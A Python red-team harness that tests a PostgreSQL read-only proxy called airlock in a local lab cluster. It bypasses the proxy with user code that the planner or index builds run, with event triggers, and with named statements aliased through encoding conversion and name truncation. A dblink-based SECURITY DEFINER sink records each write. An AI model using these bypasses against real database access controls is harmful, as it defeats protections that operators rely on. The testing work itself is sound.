#!/usr/bin/env python3
"""Red-team round 5 against airlock: relaxed CREATE INDEX and re-created named statements.

Written without sight of airlock's source, from PRODUCT.md, docs/catalog.md and
docs/backstop.md only.  Starts its own PostgreSQL 15 cluster (as the postgres user)
and, for every attack, a fresh airlock in front of it (policy: policies3/, the
permissive one), and runs:
  (1) the positive control: the same client sequence DIRECT against PostgreSQL;
      if no marker row appears the attack is BROKEN;
  (2) fresh airlock, reset and re-plant, wait 2 s (past catalog_poll);
  (3) the sequence THROUGH airlock.
LEAK = a marker row appeared through airlock.  The sink is public.mark(tag), a
SECURITY DEFINER function that inserts into public.marker through dblink_exec, so
it gets past read-only transactions.  Markers are only ever written by user code
reached from a statement the client sent as a read (or a Bind of a statement the
client Parsed as a read); an allowed INSERT/CREATE INDEX writing a marker itself is
never counted (its code only redefines a view or replaces a named statement).

For the attacks on the proxy's re-creation of named statements, PostgreSQL itself
never re-parses a statement, so the direct control sends explicitly the Close +
Parse that airlock documents it injects (docs/catalog.md "What a write runs").

Usage: attacks5.py [--airlock-bin PATH] [--shard I/N] [--skip NAME]... [NAME]...
       VERBOSE=1 prints every step; KEEP=1 keeps the cluster directory.
"""
import os
import shutil
import socket
import subprocess
import sys
import time
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import pgwire as w  # noqa: E402

AIRLOCK = "/tmp/rt5/airlock"
POLICIES = os.path.join(HERE, "policies3")
PGBIN = "/usr/lib/postgresql/15/bin"
HOLD_TIMEOUT = 1.5
POLL_WAIT = float(os.environ.get("RT5_POLL_WAIT", "2.0"))


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


class Env:
    def __init__(self):
        self.base = "/tmp/rt5run.%d" % os.getpid()
        self.pgport = free_port()
        self.alport = free_port()
        self.adport = free_port()
        self.airlock = None

    def start(self):
        os.makedirs(self.base)
        shutil.chown(self.base, "postgres")
        data = self.base + "/data"
        subprocess.run(["runuser", "-u", "postgres", "--", PGBIN + "/initdb", "-D", data, "-A", "trust",
                        "-U", "postgres", "--no-sync"], check=True, stdout=subprocess.DEVNULL)
        with open(data + "/postgresql.conf", "a") as f:
            f.write("\nport=%d\nlisten_addresses='127.0.0.1'\nunix_socket_directories='%s'\n"
                    "max_prepared_transactions=10\nfsync=off\nautovacuum=off\n" % (self.pgport, self.base))
        subprocess.run(["runuser", "-u", "postgres", "--", PGBIN + "/pg_ctl", "-D", data, "-l",
                        self.base + "/pg.log", "-w", "start"], check=True, stdout=subprocess.DEVNULL)
        c = self.direct()
        c.exec_ok("""
create extension dblink;
create table public.marker(v text, at timestamptz default clock_timestamp());
grant all on public.marker to public;
create function public.mark(t text) returns int language plpgsql security definer as $f$
begin
  perform public.dblink_exec('host=127.0.0.1 port=%d dbname=postgres user=postgres',
                             'insert into public.marker(v) values(' || quote_literal(t) || ')');
  return 1;
end $f$;
grant execute on function public.mark(text) to public;
""" % self.pgport)
        c.close()

    def start_airlock(self):
        self.stop_airlock()
        self.airlock_log = open(self.base + "/airlock.log", "a")
        store = "%s/airlock.db" % self.base
        for sfx in ("", "-wal", "-shm"):
            try:
                os.unlink(store + sfx)
            except FileNotFoundError:
                pass
        self.airlock = subprocess.Popen(
            [AIRLOCK, "serve", "--listen", "127.0.0.1:%d" % self.alport,
             "--upstream", "127.0.0.1:%d" % self.pgport,
             "--admin-listen", "127.0.0.1:%d" % self.adport,
             "--policies", POLICIES, "--store", "sqlite://" + store],
            stdout=self.airlock_log, stderr=subprocess.STDOUT, cwd=self.base)
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", self.alport), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.05)

    def stop_airlock(self):
        if self.airlock:
            self.airlock.terminate()
            try:
                self.airlock.wait(10)
            except subprocess.TimeoutExpired:
                self.airlock.kill()
                self.airlock.wait()
            self.airlock = None

    def stop(self):
        self.stop_airlock()
        subprocess.run(["runuser", "-u", "postgres", "--", PGBIN + "/pg_ctl", "-D", self.base + "/data",
                        "-m", "immediate", "stop"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if not os.environ.get("KEEP"):
            shutil.rmtree(self.base, ignore_errors=True)

    def direct(self, user="postgres", **kw):
        p = {"user": user, "database": "postgres"}
        p.update(kw)
        return w.Conn("127.0.0.1", self.pgport, p, timeout=30)

    def markers(self, tag):
        c = self.direct()
        try:
            return int(c.scalar("select count(*) from public.marker where v like %s" % q(tag + "%")))
        finally:
            c.close()

    def clear_marker(self):
        c = self.direct()
        c.exec_ok("delete from public.marker")
        c.close()


def q(s):
    return "'" + s.replace("'", "''") + "'"


def is_hold(m):
    if isinstance(m, str):
        return m in ("TIMEOUT", "CLOSED")
    if m.t in (b"E", b"N"):
        txt = (m.fields.get("M") or "") + (m.fields.get("D") or "")
        return "airlock" in txt.lower()
    return False


class Ctx:
    """Runs one sequence against the direct port or the airlock port."""

    def __init__(self, env, port, via, S, T):
        self.env, self.port, self.via, self.S, self.T = env, port, via, S, T
        self.conns = {}
        self.log = []
        self.held = []
        self.notes = []

    @property
    def direct(self):
        return self.via == "direct"

    def conn(self, name="a", user="postgres", **params):
        if name not in self.conns:
            p = {"user": user, "database": "postgres"}
            p.update(params)
            self.conns[name] = w.Conn("127.0.0.1", self.port, p, timeout=10)
        return self.conns[name]

    def _record(self, what, res):
        hs = [m for m in res if is_hold(m)]
        if hs:
            self.held.append((what, hs[0]))
        self.log.append("%s -> %s" % (what[:100].replace("\n", " "), w.summarize(res)[:220]))
        return res

    def s(self, sql):
        return sql.replace("$S", self.S).replace("$T", self.T)

    def q(self, sql, c="a", timeout=HOLD_TIMEOUT, **params):
        sql = self.s(sql)
        cn = self.conn(c, **params)
        return self._record("[%s] Q %s" % (c, sql), cn.query(sql, timeout=timeout))

    def raw(self, what, data, c="a", n=1, timeout=HOLD_TIMEOUT, **params):
        cn = self.conn(c, **params)
        cn.send(data)
        return self._record("[%s] %s" % (c, what), cn.until_ready(n, timeout))

    def send(self, data, c="a"):
        self.conn(c).send(data)

    def wait(self, what, c="a", n=1, timeout=HOLD_TIMEOUT):
        return self._record("[%s] %s" % (c, what), self.conns[c].until_ready(n, timeout))

    def su(self, sql):
        c = self.env.direct()
        try:
            c.exec_ok(self.s(sql))
        finally:
            c.close()

    def scalar(self, sql):
        c = self.env.direct()
        try:
            return c.scalar(self.s(sql))
        finally:
            c.close()

    def emulate_recreate(self, name, text, c="a"):
        """Direct control only: what airlock documents it sends before a Bind of a named
        statement after user code may have run (Close + Parse of the client's text)."""
        if self.direct:
            self.raw("(emulated airlock re-create of %r)" % name, w.C("S", name) + w.P(name, text) + w.S(), c=c)

    def close(self):
        for cn in self.conns.values():
            cn.close()
        self.conns = {}


class Attack:
    def __init__(self, name, setup, seq, teardown, desc, group):
        self.name, self.setup, self.seq, self.teardown, self.desc, self.group = \
            name, setup, seq, teardown, desc, group


ATTACKS = []


def attack(name, setup="", teardown="", group=""):
    def deco(fn):
        ATTACKS.append(Attack(name, setup, fn, teardown, (fn.__doc__ or "").strip(), group))
        return fn
    return deco


def schema(name):
    return "a5_" + name


def run_sql(env, sql, S, T):
    if not sql:
        return
    c = env.direct()
    try:
        c.exec_ok(sql.replace("$S", S).replace("$T", T).replace("$PORT", str(env.pgport)))
    finally:
        c.close()


def reset(env, a):
    S, T = schema(a.name), a.name
    run_sql(env, a.teardown, S, T)
    run_sql(env, "drop schema if exists %s cascade" % S, S, T)
    run_sql(env, "create schema %s; grant usage, create on schema %s to public" % (S, S), S, T)
    run_sql(env, PRELUDE, S, T)
    # planting runs with once() disarmed (a GiST index built while planting must not act)
    run_sql(env, ("set rt5.disarm = 'y';\n" + a.setup) if a.setup else "", S, T)
    env.clear_marker()


def run_seq(env, a, port, via):
    ctx = Ctx(env, port, via, schema(a.name), a.name)
    try:
        a.seq(ctx)
    except Exception as e:  # noqa
        ctx.log.append("EXC %r" % e)
    finally:
        ctx.close()
    time.sleep(0.4)
    return ctx, env.markers(a.name)


def run_one(env, a):
    reset(env, a)
    dctx, ctl = run_seq(env, a, env.pgport, "direct")
    if ctl == 0:
        return "BROKEN", dctx, None
    env.start_airlock()
    reset(env, a)
    time.sleep(POLL_WAIT)
    actx, got = run_seq(env, a, env.alport, "airlock")
    if got and not actx.held:
        verdict = "LEAK"
    elif got:
        verdict = "LEAK?(marker+hold)"
    else:
        verdict = "BLOCKED"
    return verdict, dctx, actx


# ---------------------------------------------------------------------------------------------
# planted objects common to every attack (schema $S, tag $T = attack name)
# ---------------------------------------------------------------------------------------------
PRELUDE = r"""
create view $S.v as select 1 as a;
-- redefine v to call mark(): what user code does to turn a later read into a write
create function $S.redefine() returns void language plpgsql security definer as $r$
begin execute 'create or replace view $S.v as select public.mark(''$T'') as a'; end $r$;
-- replace the client's named statement s1 (if any) with one that calls mark()
create function $S.replace_s1() returns void language plpgsql as $r$
begin
  if exists (select from pg_prepared_statements where name = 's1') then execute 'deallocate s1'; end if;
  execute 'prepare s1 as select public.mark(''$T'') as a';
end $r$;
-- run a statement once per transaction (user code that is called per row or per comparison)
create function $S.once(what text) returns void language plpgsql as $r$
begin
  if current_setting('rt5.done', true) is distinct from 'y'
     and current_setting('rt5.disarm', true) is distinct from 'y' then
    perform set_config('rt5.done', 'y', true);
    execute what;
  end if;
end $r$;
-- a table whose only trigger does nothing: an allowed INSERT into it is "user code"
create table $S.nt(a int);
create function $S.nt_f() returns trigger language plpgsql as $r$ begin return new; end $r$;
create trigger nt_t before insert on $S.nt for each row execute function $S.nt_f();
-- a table whose trigger redefines v
create table $S.trg(a int);
create function $S.trg_f() returns trigger language plpgsql security definer as $r$
begin perform $S.redefine(); return new; end $r$;
create trigger trg_t before insert on $S.trg for each row execute function $S.trg_f();
-- a table whose trigger replaces the client's named statement s1
create table $S.rtrg(a int);
create function $S.rtrg_f() returns trigger language plpgsql as $r$
begin perform $S.replace_s1(); return new; end $r$;
create trigger rtrg_t before insert on $S.rtrg for each row execute function $S.rtrg_f();
"""


def RANGE(action, rows=1000, analyze=True, extra=""):
    """A range type over int4 whose subtype_diff is a plpgsql function that runs ACTION (SQL
    text) once per transaction.  subtype_diff is called by GiST penalty/picksplit (index
    builds and inserts) and by the planner's range selectivity (rangesel) when the column
    has statistics.  Table $S.rt(r myr), ROWS rows."""
    return (r"""
create function $S.sd(a int4, b int4) returns float8 language plpgsql immutable as $b$
begin perform $S.once(%s); return a - b; end $b$;
create type $S.myr as range (subtype = int4, subtype_diff = $S.sd);
create table $S.rt(id serial, r $S.myr);
insert into $S.rt(r) select $S.myr(g, g + 3) from generate_series(1, %d) g;
""" % (q(action), rows)) + ("analyze $S.rt;\n" if analyze else "") + extra


MARK = "select public.mark('$T')"
REDEF = "select $S.redefine()"
REPL = "select $S.replace_s1()"

TYPMOD = r"""
create function $S.tmi(cstring[]) returns int language plpgsql immutable strict as $b$
begin perform public.mark('$T'); return 5; end $b$;
create type $S.bt;
create function $S.btin(cstring) returns $S.bt language internal immutable strict as 'int4in';
create function $S.btout($S.bt) returns cstring language internal immutable strict as 'int4out';
create type $S.bt (input = $S.btin, output = $S.btout, internallength = 4, passedbyvalue,
                   alignment = int4, typmod_in = $S.tmi);
"""


def ext(stmt="", params=(), portal=""):
    return w.B(portal, stmt, params) + w.E(portal) + w.S()


# =============================================================================================
# 1. user code the catalog does not see: range subtype_diff, base-type typmod_in
# =============================================================================================

@attack("read_range_subdiff_rangesel", setup=RANGE(MARK), group="hidden type code")
def a_r1(ctx):
    """Plain read of a table with a user range column: the planner's rangesel estimates
    `r && const` from the column's histogram and calls the range's subtype_diff, a plpgsql
    function that calls mark().  The statement names only a table and a built-in operator."""
    ctx.q("select count(*) from $S.rt where r && '[5,10]'")


@attack("read_range_subdiff_explain", setup=RANGE(MARK), group="hidden type code")
def a_r2(ctx):
    """EXPLAIN (no ANALYZE) of the same read: planning alone runs subtype_diff."""
    ctx.q("explain select * from $S.rt where r << '[5,10]'")


@attack("read_range_subdiff_extended_in_block", setup=RANGE(MARK), group="hidden type code")
def a_r3(ctx):
    """Extended protocol inside a transaction block (no read-only backstop there):
    Parse/Bind/Execute `select ... where r @> 7`."""
    ctx.q("begin")
    ctx.raw("P/B/E r @> $1", w.P("", ctx.s("select count(*) from $S.rt where r @> $1::int4")) + ext("", ["7"]))
    ctx.q("commit")


@attack("read_multirange_subdiff", setup=RANGE(MARK, analyze=False, extra="""
create table $S.mt(m $S.myr_multirange);
insert into $S.mt select $S.myr_multirange($S.myr(g, g + 3)) from generate_series(1, 1000) g;
analyze $S.mt;
"""), group="hidden type code")
def a_r4(ctx):
    """The range's multirange type: `m && range` is estimated by multirangesel, which calls
    the same subtype_diff."""
    ctx.q("select count(*) from $S.mt where m && '[5,10]'::$S.myr")


@attack("read_typmod_in_cast", setup=TYPMOD, group="hidden type code")
def a_r5(ctx):
    """A user base type (I/O functions LANGUAGE internal 'int4in'/'int4out') whose typmod_in
    is plpgsql: `select null::bt(3)` runs typmod_in at parse analysis."""
    ctx.q("select null::$S.bt(3)")


@attack("read_typmod_in_extended", setup=TYPMOD, group="hidden type code")
def a_r6(ctx):
    """The same cast in a named protocol statement: Parse s1 `select cast($1 as bt(4))`
    runs typmod_in during Parse."""
    ctx.raw("Parse s1 cast($1 as bt(4))", w.P("s1", ctx.s("select cast($1::text as $S.bt(4))")) + w.S())
    ctx.raw("Bind/Execute s1", ext("s1", ["5"]))


# =============================================================================================
# 2. relaxed CREATE INDEX that runs user code
# =============================================================================================

@attack("ci_gist_subdiff_other_session", setup=RANGE(REDEF, analyze=False), group="create index")
def a_c1(ctx):
    """Session a: CREATE INDEX ON rt USING gist (r) (allowed; built-in AM, opclass range_ops,
    no expression).  GiST picksplit/penalty call subtype_diff, which redefines view v.
    Session b reads v at once."""
    ctx.q("create index on $S.rt using gist (r)", c="a")
    ctx.q("select * from $S.v", c="b")


@attack("ci_gist_subdiff_control_unrelaxed", setup=RANGE(REDEF, analyze=False) + r"""
create function $S.noop_et() returns event_trigger language plpgsql as $b$ begin end $b$;
create event trigger rt5_et_noop on ddl_command_end when tag in ('CREATE SEQUENCE') execute function $S.noop_et();
""", teardown="drop event trigger if exists rt5_et_noop", group="create index")
def a_c1b(ctx):
    """Control for ci_gist_subdiff_other_session: the same sequence in a database with one enabled
    (unrelated) event trigger, so the CREATE INDEX is not relaxed.  Expected BLOCKED: session b
    waits for the reload after the build and then sees the redefined v."""
    ctx.q("create index on $S.rt using gist (r)", c="a")
    ctx.q("select * from $S.v", c="b")


@attack("ci_gist_subdiff_concurrently", setup=RANGE(REDEF, analyze=False), group="create index")
def a_c2(ctx):
    """As ci_gist_subdiff_other_session with CREATE INDEX CONCURRENTLY."""
    ctx.q("create index concurrently on $S.rt using gist (r)", c="a")
    ctx.q("select * from $S.v", c="b")


@attack("ci_gist_subdiff_same_txn", setup=RANGE(REDEF, analyze=False), group="create index")
def a_c3(ctx):
    """BEGIN; CREATE INDEX ... USING gist (r) (redefines v, uncommitted: no poll can see it);
    SELECT * FROM v; COMMIT."""
    ctx.q("begin")
    ctx.q("create index on $S.rt using gist (r)")
    ctx.q("select * from $S.v")
    ctx.q("commit")


@attack("ci_gist_subdiff_one_message", setup=RANGE(REDEF, analyze=False), group="create index")
def a_c4(ctx):
    """One Query message: CREATE INDEX ... USING gist (r); SELECT * FROM v."""
    ctx.q("create index on $S.rt using gist (r); select * from $S.v")


@attack("ci_gist_subdiff_pipeline", setup=RANGE(REDEF, analyze=False), group="create index")
def a_c5(ctx):
    """Extended-protocol pipeline with one Sync: CREATE INDEX gist | SELECT * FROM v."""
    ctx.raw("pipeline create index | select v",
            w.P("", ctx.s("create index on $S.rt using gist (r)")) + w.B() + w.E()
            + w.P("", ctx.s("select * from $S.v")) + w.B() + w.E() + w.S())


@attack("ci_gist_multirange_subdiff", setup=RANGE(REDEF, analyze=False, rows=10, extra="""
create table $S.mt(m $S.myr_multirange);
insert into $S.mt select $S.myr_multirange($S.myr(g, g + 3), $S.myr(g + 10, g + 12)) from generate_series(1, 1000) g;
"""), group="create index")
def a_c6(ctx):
    """GiST index on the multirange column (multirange_ops): BEGIN; CREATE INDEX; SELECT v; COMMIT."""
    ctx.q("begin")
    ctx.q("create index on $S.mt using gist (m)")
    ctx.q("select * from $S.v")
    ctx.q("commit")


@attack("ci_gist_subdiff_partitioned", setup=RANGE(REDEF, analyze=False, rows=10, extra="""
create table $S.pt(k int, r $S.myr) partition by range (k);
create table $S.pt1 partition of $S.pt for values from (0) to (600);
create table $S.pt2 partition of $S.pt for values from (600) to (2000);
insert into $S.pt select g, $S.myr(g, g + 3) from generate_series(1, 1200) g;
"""), group="create index")
def a_c7(ctx):
    """CREATE INDEX on a partitioned table (recurses into both partitions) USING gist (r);
    session b reads v."""
    ctx.q("create index on $S.pt using gist (r)", c="a")
    ctx.q("select * from $S.v", c="b")


@attack("ci_gist_subdiff_replaces_stmt", setup=RANGE(REPL, analyze=False), group="create index")
def a_c8(ctx):
    """Parse s1 = SELECT 1.  CREATE INDEX ... USING gist (r): subtype_diff tries to DEALLOCATE s1
    and PREPARE s1 AS SELECT mark().  Bind/Execute s1.  (PostgreSQL runs index builds as a
    security-restricted operation, which refuses DEALLOCATE: expected BROKEN, kept as the record.)"""
    ctx.raw("Parse s1 select 1", w.P("s1", "select 1 as a") + w.S())
    ctx.q("create index on $S.rt using gist (r)")
    ctx.raw("Bind/Execute s1", ext("s1"))


CURSOR_OPEN = "select $S.open_cx()"
OPEN_CX = r"""
create function $S.open_cx() returns void language plpgsql as $b$
declare r refcursor := 'cx'; begin open r for select public.mark('$T'); end $b$;
"""


@attack("ci_gist_subdiff_opens_cursor", setup=OPEN_CX + RANGE(CURSOR_OPEN, analyze=False), group="create index")
def a_c8b(ctx):
    """BEGIN; CREATE INDEX ... USING gist (r): subtype_diff opens cursor cx FOR SELECT mark()
    (allowed in a security-restricted operation); FETCH cx; COMMIT."""
    ctx.q("begin")
    ctx.q("create index on $S.rt using gist (r)")
    ctx.q("fetch cx")
    ctx.q("commit")


@attack("ci_event_trigger_enable_always",
        setup="create table $S.tb(a int);\n"
              "create function $S.etf() returns event_trigger language plpgsql as $b$ begin perform $S.redefine(); end $b$;\n"
              "create event trigger rt5_et_always on ddl_command_end when tag in ('CREATE INDEX') execute function $S.etf();\n"
              "alter event trigger rt5_et_always enable always;\n",
        teardown="drop event trigger if exists rt5_et_always", group="create index")
def a_c10(ctx):
    """Event trigger on CREATE INDEX switched to ENABLE ALWAYS (evtenabled 'A'); session a
    CREATE INDEX; session b reads v."""
    ctx.q("create index on $S.tb (a)", c="a")
    ctx.q("select * from $S.v", c="b")


@attack("ci_event_trigger_replica_role_by_trigger",
        setup="create table $S.tb(a int);\n"
              "create table $S.srr(a int);\n"
              "create function $S.srr_f() returns trigger language plpgsql security definer as $b$ begin "
              "perform set_config('session_replication_role', 'replica', false); return new; end $b$;\n"
              "create trigger srr_t before insert on $S.srr for each row execute function $S.srr_f();\n"
              "create function $S.etf() returns event_trigger language plpgsql as $b$ begin perform $S.redefine(); end $b$;\n"
              "create event trigger rt5_et_replica on ddl_command_end when tag in ('CREATE INDEX') execute function $S.etf();\n"
              "alter event trigger rt5_et_replica enable replica;\n",
        teardown="drop event trigger if exists rt5_et_replica", group="create index")
def a_c11(ctx):
    """Event trigger ENABLE REPLICA (fires only when session_replication_role = replica).  An
    allowed INSERT's trigger switches the session to replica (not reported by ParameterStatus);
    wait for the reload; CREATE INDEX fires the event trigger; session b reads v."""
    ctx.q("insert into $S.srr values (1)", c="a")
    time.sleep(1.5)
    ctx.q("create index on $S.tb (a)", c="a")
    ctx.q("select * from $S.v", c="b")


@attack("ci_event_trigger_replica_role_setconfig",
        setup="create table $S.tb(a int);\n"
              "create function $S.etf() returns event_trigger language plpgsql as $b$ begin perform $S.redefine(); end $b$;\n"
              "create event trigger rt5_et_replica2 on ddl_command_end when tag in ('CREATE INDEX') execute function $S.etf();\n"
              "alter event trigger rt5_et_replica2 enable replica;\n",
        teardown="drop event trigger if exists rt5_et_replica2", group="create index")
def a_c12(ctx):
    """set_config with a computed name ('session_replication' || '_role') to replica (allowed
    set_config in round 4), then CREATE INDEX, then read v in the same session."""
    ctx.q("select set_config('session_replication' || '_role', 'replica', false)")
    ctx.q("create index on $S.tb (a)")
    ctx.q("select * from $S.v")


@attack("ci_tampered_extension_opclass",
        setup="create extension if not exists citext;\n"
              "create table $S.ct(c citext); insert into $S.ct select 'x' || g from generate_series(1, 50) g;\n"
              "create or replace function public.citext_cmp(citext, citext) returns int language plpgsql immutable strict as $b$ "
              "begin perform $S.once('select $S.redefine()'); return bttextcmp(lower($1::text), lower($2::text)); end $b$;\n",
        teardown="drop extension if exists citext cascade", group="create index")
def a_c13(ctx):
    """citext's btree support function citext_cmp replaced in place with plpgsql; CREATE
    INDEX ON ct (c) (default opclass citext_ops, an extension's); session b reads v."""
    ctx.q("create index on $S.ct (c)", c="a")
    ctx.q("select * from $S.v", c="b")


@attack("ci_add_constraint_using_index", setup=RANGE(REDEF, analyze=False), group="create index")
def a_c14(ctx):
    """BEGIN; CREATE UNIQUE INDEX ON rt (id) (allowed); ALTER TABLE rt ADD CONSTRAINT ... USING
    INDEX (needs approval?); the GiST build in a second CREATE INDEX redefines v; SELECT v."""
    ctx.q("begin")
    ctx.q("create unique index rt_id on $S.rt (id)")
    ctx.q("alter table $S.rt add constraint rt_pk primary key using index rt_id")
    ctx.q("create index on $S.rt using gist (r)")
    ctx.q("select * from $S.v")
    ctx.q("commit")


# =============================================================================================
# 3. named statements: aliasing, re-creation, hiding of answers
# =============================================================================================

def alias_setup(ctx, enc_parse, n_parse, enc_alias, n_alias, alias_text, block=False, then_read=False):
    ctx.conn("a", client_encoding=enc_parse)
    ctx.raw("Parse %r = select 1" % n_parse, w.P(n_parse, "select 1 as a") + w.S())
    ctx.q("set client_encoding = '%s'" % enc_alias)
    ctx.raw("Close %r" % n_alias, w.C("S", n_alias) + w.S())
    ctx.raw("Parse %r = %s" % (n_alias, alias_text[:40]), w.P(n_alias, ctx.s(alias_text)) + w.S())
    ctx.q("set client_encoding = '%s'" % enc_parse)
    if block:
        ctx.q("begin")
    ctx.raw("Bind/Execute %r" % n_parse, ext(n_parse))
    if then_read:
        ctx.q("select * from $S.v")
    if block:
        ctx.q("commit")


@attack("stmtname_encoding_alias_latin1", group="named statements")
def a_n1(ctx):
    """Protocol statement names are converted from client_encoding like SQL text.  Parse 'sé'
    (UTF8 bytes c3 a9) = SELECT 1; SET client_encoding LATIN1; Close 's\\xe9' and Parse 's\\xe9'
    = SELECT mark() (the same server-side name); SET client_encoding UTF8; Bind/Execute 'sé'."""
    alias_setup(ctx, "UTF8", b"s\xc3\xa9", "LATIN1", b"s\xe9", MARK)


@attack("stmtname_encoding_alias_win1252", group="named statements")
def a_n2(ctx):
    """As stmtname_encoding_alias_latin1 with WIN1252."""
    alias_setup(ctx, "UTF8", b"s\xc3\xa9", "WIN1252", b"s\xe9", MARK)


@attack("stmtname_encoding_alias_sjis", group="named statements")
def a_n3(ctx):
    """As stmtname_encoding_alias_latin1 with SJIS: '∵' is e2 88 b5 in UTF8, 81 e6 in SJIS."""
    alias_setup(ctx, "UTF8", b"s\xe2\x88\xb5", "SJIS", b"s\x81\xe6", MARK)


@attack("stmtname_encoding_alias_insert_then_read", group="named statements")
def a_n4(ctx):
    """The aliased statement is an allowed INSERT whose trigger redefines v: in a block, Bind of
    'sé' (believed SELECT 1) runs it, so airlock does not know the block changed the catalog;
    then SELECT * FROM v in the block."""
    alias_setup(ctx, "UTF8", b"s\xc3\xa9", "LATIN1", b"s\xe9", "insert into $S.trg values (1)",
                block=True, then_read=True)


@attack("stmtname_encoding_alias_reverse", group="named statements")
def a_n5(ctx):
    """Reverse direction: Parse 's\\xe9' under LATIN1 = SELECT 1; UTF8: Close+Parse 'sé' =
    SELECT mark(); back to LATIN1; Bind 's\\xe9'."""
    alias_setup(ctx, "LATIN1", b"s\xe9", "UTF8", b"s\xc3\xa9", MARK)


@attack("portalname_encoding_alias", group="named statements")
def a_n6(ctx):
    """Portals: BEGIN; Bind portal 'pé' (UTF8) of SELECT 1; LATIN1: Close portal 'p\\xe9', Parse
    unnamed SELECT mark(), Bind portal 'p\\xe9'; UTF8: Execute 'pé'."""
    ctx.conn("a", client_encoding="UTF8")
    ctx.q("begin")
    ctx.raw("P/B portal pé", w.P("", "select 1 as a") + w.B(b"p\xc3\xa9", "") + w.S())
    ctx.q("set client_encoding = 'LATIN1'")
    ctx.raw("Close portal p\\xe9", w.C("P", b"p\xe9") + w.S())
    ctx.raw("P/B portal p\\xe9 = mark", w.P("", ctx.s(MARK)) + w.B(b"p\xe9", "") + w.S())
    ctx.q("set client_encoding = 'UTF8'")
    ctx.raw("Execute pé", w.E(b"p\xc3\xa9") + w.S())
    ctx.q("commit")


@attack("stmtname_sjis_many_to_one", group="named statements")
def a_n7(ctx):
    """No encoding switch: SJIS maps both 81 e6 and 87 9a to U+2235.  Parse 's\\x81\\xe6' = SELECT
    1; Close + Parse 's\\x87\\x9a' = SELECT mark(); Bind 's\\x81\\xe6'."""
    ctx.conn("a", client_encoding="SJIS")
    ctx.raw("Parse s81e6", w.P(b"s\x81\xe6", "select 1 as a") + w.S())
    ctx.raw("Close+Parse s879a = mark", w.C("S", b"s\x87\x9a") + w.P(b"s\x87\x9a", ctx.s(MARK)) + w.S())
    ctx.raw("Bind s81e6", ext(b"s\x81\xe6"))


@attack("stmtname_truncation_alias", group="named statements")
def a_n8(ctx):
    """Names are truncated to 63 bytes upstream.  Parse N+'a' = SELECT 1; Close N+'b' + Parse
    N+'b' = SELECT mark() (same upstream name); Bind N+'a'."""
    N = "n" * 63
    ctx.raw("Parse Na", w.P(N + "a", "select 1 as a") + w.S())
    ctx.raw("Close+Parse Nb = mark", w.C("S", N + "b") + w.P(N + "b", ctx.s(MARK)) + w.S())
    ctx.raw("Bind Na", ext(N + "a"))


@attack("stmtname_truncation_latin1_multibyte", group="named statements")
def a_n9(ctx):
    """Truncation after conversion: under LATIN1, 'é'*32+'a' and 'é'*32+'b' differ in the
    client's bytes but become the same 63 server bytes (each é is 2 bytes in UTF8)."""
    ctx.conn("a", client_encoding="LATIN1")
    na, nb = b"\xe9" * 32 + b"a", b"\xe9" * 32 + b"b"
    ctx.raw("Parse na", w.P(na, "select 1 as a") + w.S())
    ctx.raw("Close+Parse nb = mark", w.C("S", nb) + w.P(nb, ctx.s(MARK)) + w.S())
    ctx.raw("Bind na", ext(na))


@attack("stmtname_duplicate_parse_error", group="named statements")
def a_n10(ctx):
    """Parse s1 = SELECT mark() (a Parse is forwarded; judging happens at Bind).  Parse s1 =
    SELECT 1 fails upstream (42P05 already exists).  Bind s1: judged as SELECT 1?"""
    ctx.raw("Parse s1 = mark", w.P("s1", ctx.s(MARK)) + w.S())
    ctx.raw("Parse s1 = select 1 (dup)", w.P("s1", "select 1 as a") + w.S())
    ctx.raw("Bind s1", ext("s1"))


@attack("sql_deallocate_truncated_then_prepare", group="named statements")
def a_n11(ctx):
    """Protocol Parse N66 (66 bytes) = SELECT 1; SQL DEALLOCATE "N63" (the scanner truncates, so
    this is the same upstream statement); SQL PREPARE "N63" AS INSERT INTO trg (allowed; trigger
    redefines v); BEGIN; Bind N66 (believed SELECT 1); SELECT * FROM v; COMMIT."""
    N = "m" * 63
    ctx.raw("Parse N66", w.P(N + "xyz", "select 1 as a") + w.S())
    ctx.q('deallocate "%s"' % N)
    ctx.q('prepare "%s" as insert into $S.trg values (1)' % N)
    ctx.q("begin")
    ctx.raw("Bind N66", ext(N + "xyz"))
    ctx.q("select * from $S.v")
    ctx.q("commit")


@attack("sql_deallocate_all_then_prepare", group="named statements")
def a_n12(ctx):
    """Protocol Parse s1 = SELECT 1; SQL DEALLOCATE ALL; SQL PREPARE s1 AS INSERT INTO trg;
    BEGIN; Bind s1; SELECT * FROM v; COMMIT."""
    ctx.raw("Parse s1", w.P("s1", "select 1 as a") + w.S())
    ctx.q("deallocate all")
    ctx.q("prepare s1 as insert into $S.trg values (1)")
    ctx.q("begin")
    ctx.raw("Bind s1", ext("s1"))
    ctx.q("select * from $S.v")
    ctx.q("commit")


@attack("sql_discard_all_then_prepare", group="named statements")
def a_n13(ctx):
    """As sql_deallocate_all_then_prepare with DISCARD ALL (what pools send)."""
    ctx.raw("Parse s1", w.P("s1", "select 1 as a") + w.S())
    ctx.q("discard all")
    ctx.q("prepare s1 as insert into $S.trg values (1)")
    ctx.q("begin")
    ctx.raw("Bind s1", ext("s1"))
    ctx.q("select * from $S.v")
    ctx.q("commit")


@attack("recreate_skipped_by_earlier_error", group="named statements")
def a_n14(ctx):
    """Parse s1 = SELECT 1; allowed INSERT whose trigger replaces s1 with SELECT mark() (s1 is
    now stale); pipeline [P/B/E select 1/0][Bind s1][Execute][Sync]: the server skips the
    injected Close+Parse after the error; then Bind/Execute s1 again."""
    ctx.raw("Parse s1", w.P("s1", "select 1 as a") + w.S())
    ctx.q("insert into $S.rtrg values (1)")
    ctx.raw("error | Bind s1", w.P("", "select 1/0") + w.B() + w.E() + ext("s1"))
    ctx.raw("Bind s1 again", ext("s1"))


@attack("recreate_in_aborted_block", group="named statements")
def a_n15(ctx):
    """BEGIN; allowed INSERT (trigger replaces s1); SELECT 1/0 (block aborted); Bind s1 (an
    injected Parse would fail with 25P02); ROLLBACK; Bind s1."""
    ctx.raw("Parse s1", w.P("s1", "select 1 as a") + w.S())
    ctx.q("begin")
    ctx.q("insert into $S.rtrg values (1)")
    ctx.q("select 1/0")
    ctx.raw("Bind s1 in aborted block", ext("s1"))
    ctx.q("rollback")
    ctx.raw("Bind s1", ext("s1"))


